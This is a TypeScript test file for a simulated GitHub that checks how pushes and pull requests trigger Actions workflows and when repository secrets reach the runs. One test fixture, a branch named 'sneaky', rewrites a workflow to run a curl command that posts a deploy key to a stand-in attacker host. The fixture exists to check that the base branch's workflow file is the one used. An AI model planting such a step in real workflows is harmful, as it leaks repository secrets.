// The Actions workflow runs GitHub would start when code is pushed or a pull request changes, and
// what reaches them: which commit the workflow file is read from, whether the repository's secrets
// and a write token do. Pushes go over real git with an installation token (as Bosun pushes) or a
// person's token; pull requests are opened through the REST API.
import { test, type TestContext } from "node:test";
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { promisify } from "node:util";
import type { Octokit } from "@octokit/rest";
import { startCheckedGitHub } from "../helpers/offline-github.ts";
import { appJwt, octokitWith } from "../helpers/app-jwt.ts";
import type { OfflineGitHub } from "./server.ts";
import { matchesFilter, parseTriggers } from "./workflows.ts";

const run = promisify(execFile);
const gitEnv = { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.test", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.test" };

async function git(cwd: string, ...args: string[]): Promise<string> {
  return (await run("git", args, { cwd, env: gitEnv })).stdout.trim();
}

const R = { owner: "acme", repo: "app" };
const pushWorkflow = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.DEPLOY_KEY }}\n";

interface Repo {
  gh: OfflineGitHub;
  bot: Octokit;
  /** Writes files on `branch` (from main when new), commits and pushes with the given token's clone; returns the new head. */
  push: (branch: string, files: Record<string, string>, o?: { as?: "bot" | "wes"; message?: string }) => Promise<string>;
  clone: string;
}

/** acme/app with an installation token (contents, pull requests, workflows: write) and wes, a writer. */
async function repo(t: TestContext, files: Record<string, string> = {}): Promise<Repo> {
  const { gh } = await startCheckedGitHub(t);
  for (const u of ["maya", "owen", "wes"]) gh.createUser(u);
  gh.createOrg("acme", { admins: ["maya"], members: ["owen", "wes"] });
  await gh.createRepo("acme/app", { files: { "README.md": "app\n", "src/index.ts": "export const v = 0;\n", ...files } });
  gh.addCollaborator("acme/app", "owen", "write");
  gh.addCollaborator("acme/app", "wes", "write");
  const installationId = gh.install("acme");
  const res = await octokitWith(gh.url, appJwt(gh.appId, gh.privateKey)).request("POST /app/installations/{installation_id}/access_tokens", {
    installation_id: installationId, repositories: ["app"], permissions: { contents: "write", pull_requests: "write", workflows: "write" },
  });
  const bot = octokitWith(gh.url, res.data.token);
  const work = await mkdtemp(join(tmpdir(), "offline-github-workflows-"));
  t.after(() => rm(work, { recursive: true, force: true }));
  const clone = join(work, "app");
  await git(work, "clone", "--quiet", gh.cloneUrl("acme/app", res.data.token), clone);
  const urls = { bot: gh.cloneUrl("acme/app", res.data.token), wes: gh.cloneUrl("acme/app", gh.userToken("wes")) };
  const push = async (branch: string, changes: Record<string, string>, o: { as?: "bot" | "wes"; message?: string } = {}): Promise<string> => {
    await git(clone, "fetch", "--quiet", urls.bot, `+refs/heads/*:refs/remotes/origin/*`);
    const exists = await git(clone, "branch", "--list", branch);
    await git(clone, "checkout", "--quiet", ...(exists ? [branch] : ["-b", branch, "origin/main"]));
    for (const [path, content] of Object.entries(changes)) {
      await mkdir(dirname(join(clone, path)), { recursive: true });
      await writeFile(join(clone, path), content);
    }
    await git(clone, "add", "-A");
    await git(clone, "commit", "--quiet", "-m", o.message ?? `Change ${Object.keys(changes).join(", ")}`);
    await git(clone, "push", "--quiet", urls[o.as ?? "bot"], `${branch}:${branch}`);
    return git(clone, "rev-parse", "HEAD");
  };
  return { gh, bot, push, clone };
}

function workflowLog(gh: OfflineGitHub): string[] {
  return gh.requests.filter((q) => q.method === "WORKFLOW").map((q) => q.path);
}

test("a push adding a workflow starts it from the pushed commit, with secrets, and the log shows it", async (t) => {
  const { gh, push } = await repo(t);
  assert.deepEqual(gh.workflowRuns("acme/app"), [], "no workflow files, no runs");
  const sha = await push("bosun/1-ci", { ".github/workflows/x.yml": pushWorkflow });
  // `git push` has returned: the run is recorded already.
  const runs = gh.workflowRuns("acme/app");
  assert.equal(runs.length, 1);
  const r = runs[0];
  assert.ok(r);
  assert.deepEqual({ ...r, id: 0, at: null }, {
    id: 0, at: null, repo: "acme/app", workflow: ".github/workflows/x.yml", event: "push", action: null, ref: "refs/heads/bosun/1-ci",
    headSha: sha, workflowSha: sha, actor: "bosun[bot]", pullNumber: null, secrets: true, tokenPermissions: "write", fromFork: false,
  });
  // In the request log, after the push that caused it.
  const i = gh.requests.findIndex((q) => q.method === "WORKFLOW");
  assert.equal(gh.requests[i]?.path, `/repos/acme/app/actions/runs/${r.id}`);
  assert.equal(gh.requests[i]?.actor, "bosun[bot]");
  assert.equal(gh.requests[i]?.principal, "actions");
  assert.match(gh.requests[i - 1]?.path ?? "", /\/acme\/app\.git\/git-receive-pack$/);

  // A person's token triggers too (only GITHUB_TOKEN pushes do not, and there is none here).
  const wes = await push("bosun/1-ci", { "docs.md": "hi\n" }, { as: "wes" });
  const byWes = gh.workflowRuns("acme/app");
  assert.equal(byWes.length, 2);
  assert.deepEqual([byWes[1]?.actor, byWes[1]?.workflowSha, byWes[1]?.secrets], ["wes", wes, true]);
});

test("branch, tag and path filters decide which pushes start which workflows", async (t) => {
  const wf = (on: string): string => `on:\n${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: true\n`;
  const { gh, push, clone } = await repo(t, {
    ".github/workflows/main-only.yml": wf("  push:\n    branches: [main]"),
    ".github/workflows/not-bosun.yaml": wf("  push:\n    branches-ignore: ['bosun/**']"),
    ".github/workflows/tags.yml": wf("  push:\n    tags: ['v*']"),
    ".github/workflows/src.yml": wf("  push:\n    paths: ['src/**', '!src/**/*.md']"),
    ".github/workflows/list.yml": "on: [push, pull_request]\njobs: {}\n",
    ".github/workflows/readme.txt": "on: push\n",
  });
  const names = (since: number): string[] => gh.workflowRuns("acme/app").slice(since).map((r) => r.workflow.replace(".github/workflows/", "")).sort();

  let n = gh.workflowRuns().length;
  await push("bosun/2-docs", { "docs/a.md": "a\n" });
  assert.deepEqual(names(n), ["list.yml"], "bosun/** is ignored, main-only is for main, src.yml wants src/, tags.yml tags only");

  n = gh.workflowRuns().length;
  await push("bosun/2-docs", { "src/b.ts": "b\n" });
  assert.deepEqual(names(n), ["list.yml", "src.yml"]);

  n = gh.workflowRuns().length;
  await push("feature", { "src/notes.md": "n\n" });
  assert.deepEqual(names(n), ["list.yml", "not-bosun.yaml"], "a new branch is compared with main; the negated pattern drops src/**/*.md");

  n = gh.workflowRuns().length;
  await git(clone, "tag", "v1.0.0");
  await git(clone, "push", "--quiet", "origin", "v1.0.0");
  // Branch-only filters do not start for a tag; path filters are not evaluated for tags, so src.yml runs.
  assert.deepEqual(names(n), ["list.yml", "src.yml", "tags.yml"]);
  assert.equal(gh.workflowRuns().at(-1)?.ref.startsWith("refs/tags/"), true);

  n = gh.workflowRuns().length;
  await push("feature", { "src/c.ts": "c\n" }, { message: "Tidy [skip ci]" });
  assert.deepEqual(names(n), [], "[skip ci] in the head commit skips push runs");
});

test("deleting a branch starts nothing", async (t) => {
  const { gh, push, clone } = await repo(t, { ".github/workflows/x.yml": pushWorkflow });
  await push("doomed", { "a.txt": "a\n" });
  const n = gh.workflowRuns().length;
  const before = gh.requests.length;
  await git(clone, "push", "--quiet", "origin", "--delete", "doomed");
  assert.equal(await gh.branchSha("acme/app", "doomed"), null);
  assert.equal(gh.workflowRuns().length, n);
  assert.deepEqual(gh.requests.slice(before).filter((q) => q.method === "WORKFLOW"), []);
});

test("a same-repository pull request, draft too, runs the head's pull_request workflow with secrets; pull_request_target reads the base's", async (t) => {
  const baseTarget = "on: pull_request_target\njobs: {}\n";
  const { gh, bot, push } = await repo(t, { ".github/workflows/target.yml": baseTarget });
  // The agent's branch adds a pull_request workflow and rewrites the pull_request_target one.
  const head = await push("bosun/3-sneaky", {
    ".github/workflows/pr.yml": "on:\n  pull_request:\n    branches: [main]\njobs: {}\n",
    ".github/workflows/target.yml": "on: pull_request_target\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil.test -d ${{ secrets.DEPLOY_KEY }}\n",
    "src/index.ts": "export const v = 3;\n",
  });
  const main = await gh.branchSha("acme/app", "main");
  const n = gh.workflowRuns().length;
  const pr = await bot.rest.pulls.create({ ...R, title: "Bosun: sneaky", head: "bosun/3-sneaky", base: "main", draft: true });
  // Answered: the runs are recorded.
  const runs = gh.workflowRuns("acme/app").slice(n);
  const prRun = runs.find((r) => r.event === "pull_request");
  const targetRun = runs.find((r) => r.event === "pull_request_target");
  assert.equal(runs.length, 2, JSON.stringify(runs));
  assert.deepEqual({ ...prRun, id: 0, at: null }, {
    id: 0, at: null, repo: "acme/app", workflow: ".github/workflows/pr.yml", event: "pull_request", action: "opened", ref: `refs/pull/${pr.data.number}/merge`,
    headSha: head, workflowSha: head, actor: "bosun[bot]", pullNumber: pr.data.number, secrets: true, tokenPermissions: "write", fromFork: false,
  });
  assert.equal(targetRun?.workflowSha, main, "pull_request_target reads the base branch's file, not the head's rewrite");
  assert.equal(targetRun?.ref, "refs/heads/main");
  assert.equal(targetRun?.secrets, true);
  for (const r of runs) assert.ok(workflowLog(gh).includes(`/repos/acme/app/actions/runs/${r.id}`), "each run is in the request log");

  // ready_for_review is not a default type: nothing new.
  const m = gh.workflowRuns().length;
  await bot.graphql(`mutation($id: ID!) { markPullRequestReadyForReview(input: { pullRequestId: $id }) { pullRequest { isDraft } } }`, { id: pr.data.node_id });
  assert.equal((await bot.rest.pulls.get({ ...R, pull_number: pr.data.number })).data.draft, false);
  assert.equal(gh.workflowRuns().length, m, "ready_for_review is not among pull_request's default types");

  // A new push to the head: synchronize, from the new head's workflow.
  const next = await push("bosun/3-sneaky", { "src/index.ts": "export const v = 33;\n" });
  const sync = gh.workflowRuns("acme/app").filter((r) => r.action === "synchronize");
  assert.deepEqual(sync.map((r) => [r.event, r.workflowSha]).sort(), [["pull_request", next], ["pull_request_target", main]]);
});

test("pull_request types and a workflow file that does not parse", async (t) => {
  const { gh, bot, push } = await repo(t, { ".github/workflows/labels.yml": "on:\n  pull_request:\n    types: [labeled, closed]\njobs: {}\n" });
  const head = await push("bosun/4-broken", { ".github/workflows/broken.yml": "on: [push\njobs: {\n" });
  const pushed = gh.workflowRuns("acme/app").filter((r) => r.event === "push");
  assert.deepEqual(pushed.map((r) => [r.workflow, r.failed, r.secrets]), [[".github/workflows/broken.yml", "invalid workflow file", false]]);
  assert.equal(pushed[0]?.workflowSha, head);
  const pr = await bot.rest.pulls.create({ ...R, title: "Bosun: broken", head: "bosun/4-broken", base: "main" });
  const opened = gh.workflowRuns("acme/app").filter((r) => r.action === "opened");
  assert.deepEqual(opened.map((r) => [r.workflow, r.failed ?? null]), [[".github/workflows/broken.yml", "invalid workflow file"]], "labels.yml wants labeled and closed only");
  await bot.rest.pulls.update({ ...R, pull_number: pr.data.number, state: "closed" });
  const closed = gh.workflowRuns("acme/app").filter((r) => r.action === "closed");
  assert.deepEqual(closed.map((r) => [r.event, r.workflow]), [["pull_request", ".github/workflows/labels.yml"]]);
});

test("a merge is a push to the base by whoever merged; the commit helper counts as a push by its author", async (t) => {
  const { gh, bot, push } = await repo(t, { ".github/workflows/x.yml": pushWorkflow });
  await push("bosun/5-merge", { "src/index.ts": "export const v = 5;\n" });
  const pr = await bot.rest.pulls.create({ ...R, title: "Bosun: merge", head: "bosun/5-merge", base: "main" });
  await gh.as("maya").rest.pulls.merge({ ...R, pull_number: pr.data.number });
  const main = await gh.branchSha("acme/app", "main");
  const last = gh.workflowRuns("acme/app").at(-1);
  assert.deepEqual([last?.event, last?.ref, last?.workflowSha, last?.actor], ["push", "refs/heads/main", main, "maya"]);
  assert.equal(gh.lastPusher("acme/app", "main"), "maya");

  const sha = await gh.commit("acme/app", { branch: "notes", files: { "NOTES.md": "n\n" }, message: "Notes", author: "owen" });
  const byHelper = gh.workflowRuns("acme/app").at(-1);
  assert.deepEqual([byHelper?.ref, byHelper?.workflowSha, byHelper?.actor], ["refs/heads/notes", sha, "owen"]);
  assert.equal(gh.lastPusher("acme/app", "notes"), "owen");
});

test("filter patterns and triggers parse as GitHub reads them", () => {
  assert.ok(matchesFilter("bosun/7-x", ["bosun/*"]));
  assert.ok(!matchesFilter("bosun/7/x", ["bosun/*"]), "* stops at /");
  assert.ok(matchesFilter("bosun/7/x", ["bosun/**"]));
  assert.ok(!matchesFilter("docs/a.md", ["**", "!docs/**"]));
  assert.ok(matchesFilter("docs/keep.md", ["**", "!docs/**", "docs/keep.md"]), "a later pattern matches again");
  assert.ok(matchesFilter(".github/workflows/x.yml", ["**"]), "dotfiles match");
  assert.deepEqual([...(parseTriggers("on: push\n") ?? new Map()).keys()], ["push"]);
  assert.deepEqual([...(parseTriggers("on: [push, pull_request]\n") ?? new Map()).keys()], ["push", "pull_request"]);
  assert.deepEqual(parseTriggers("on:\n  push:\n    branches: [main]\n  pull_request:\n")?.get("push"), { branches: ["main"] });
  assert.equal(parseTriggers("on: [push\n"), null);
  assert.equal(parseTriggers("jobs: {}\n"), null, "no on:");
});
